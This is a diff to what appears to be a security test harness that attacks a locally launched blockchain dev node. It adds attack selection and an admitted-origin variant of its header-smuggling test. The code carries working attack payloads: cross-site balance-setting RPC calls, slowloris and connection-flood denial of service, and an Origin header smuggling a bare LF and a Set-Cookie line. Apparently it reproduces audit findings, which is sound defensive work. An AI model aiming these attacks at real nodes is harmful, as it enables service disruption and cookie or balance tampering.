@@ -131,11 +131,12 @@ def cross_site(node, seconds):
     return f"answers {statuses}; balance set: {'YES' if got == STOLEN else 'no'}"
 
 
-def smuggle(node, seconds):
+def smuggle(node, origin, seconds):
+    """`origin`: one the node admits (the explorer's), so that its CORS header echoes it."""
     body = json.dumps({"jsonrpc": "2.0", "id": 1, "method": "eth_chainId", "params": []}).encode()
     request = (b"POST / HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
-               b"Origin: http://localhost:3000\nSet-Cookie: session=stolen\r\nConnection: close\r\n"
-               b"Content-Length: %d\r\n\r\n%s" % (len(body), body))
+               b"Origin: %s/\nSet-Cookie: session=stolen\r\nConnection: close\r\n"
+               b"Content-Length: %d\r\n\r\n%s" % (origin.encode(), len(body), body))
     statuses, injected, end = {}, 0, time.monotonic() + seconds
     while time.monotonic() < end:
         with socket.create_connection(("127.0.0.1", node.port), timeout=5) as sock:
@@ -227,6 +228,8 @@ def main():
     parser.add_argument("--seconds", type=float, default=10)
     parser.add_argument("--slow", type=int, default=300, help="slow connections per HTTP face")
     parser.add_argument("--flood", type=int, default=3000, help="connections held open on 8545")
+    parser.add_argument("--only", default="cross-site,metrics,slow,flood,smuggle",
+                        help="attacks to run, comma separated (default: all)")
     args = parser.parse_args()
     metrics_port, explorer_port = free_ports(2)
     extra = (f'api = "eth,net,web3,debug,txpool,dev"\n[instrumentation]\nprometheus = true\n'
@@ -235,27 +238,28 @@ def main():
     with DevNode(extra) as node:
         assert node.rpc("eth_getBalance", DEV0, "latest")["result"] != "0x0"
         print(f"node pid {node.pid}; RSS at start {rss_mb(node.pid):.0f} MB", flush=True)
-        with Probe(node) as probe:
-            time.sleep(args.seconds)
-        probe.report("baseline (no attack)", "-")
-        with Probe(node) as probe:
-            outcome = cross_site(node, args.seconds)
-        probe.report("item 1: cross-site text/plain anvil_setBalance with a page's Origin, in a loop", outcome)
+        only = set(args.only.split(","))
         ports = {"json-rpc": node.port, "cometbft": node.comet_port, "rest": node.rest_port,
                  "explorer": explorer_port, "metrics": metrics_port}
-        with Probe(node) as probe:
-            outcome = slowloris(node, {"metrics": metrics_port}, 3, max(args.seconds, 25))
-        probe.report("item 8: 3 slow connections on the metrics port (max-open-connections 3)", outcome)
-        # 35 s: 8545's read-timeout is geth's 30 s, the others' 10 s.
-        with Probe(node) as probe:
-            outcome = slowloris(node, ports, args.slow, max(args.seconds, 35))
-        probe.report(f"item 8: {args.slow} slow connections per HTTP face, a byte a second", outcome)
-        with Probe(node) as probe:
-            outcome = flood(node, args.flood, args.seconds)
-        probe.report(f"item 8: {args.flood} connections held open on 8545", outcome)
-        with Probe(node) as probe:
-            outcome = smuggle(node, args.seconds)
-        probe.report("item 9: Origin with a bare LF and a Set-Cookie line, in a loop", outcome)
+        attacks = [
+            ("baseline", "baseline (no attack)", lambda: time.sleep(args.seconds) or "-"),
+            ("cross-site", "item 1: cross-site text/plain anvil_setBalance with a page's Origin, in a loop",
+             lambda: cross_site(node, args.seconds)),
+            ("metrics", "item 8: 3 slow connections on the metrics port (max-open-connections 3)",
+             lambda: slowloris(node, {"metrics": metrics_port}, 3, max(args.seconds, 25))),
+            # 35 s: 8545's read-timeout is geth's 30 s, the others' 10 s.
+            ("slow", f"item 8: {args.slow} slow connections per HTTP face, a byte a second",
+             lambda: slowloris(node, ports, args.slow, max(args.seconds, 35))),
+            ("flood", f"item 8: {args.flood} connections held open on 8545",
+             lambda: flood(node, args.flood, args.seconds)),
+            ("smuggle", "item 9: an admitted Origin (the explorer's) with a bare LF and a Set-Cookie line, in a loop",
+             lambda: smuggle(node, f"http://127.0.0.1:{explorer_port}", args.seconds)),
+        ]
+        for key, title, attack in attacks:
+            if key == "baseline" or key in only:
+                with Probe(node) as probe:
+                    outcome = attack()
+                probe.report(title, outcome)
 
 
 if __name__ == "__main__":
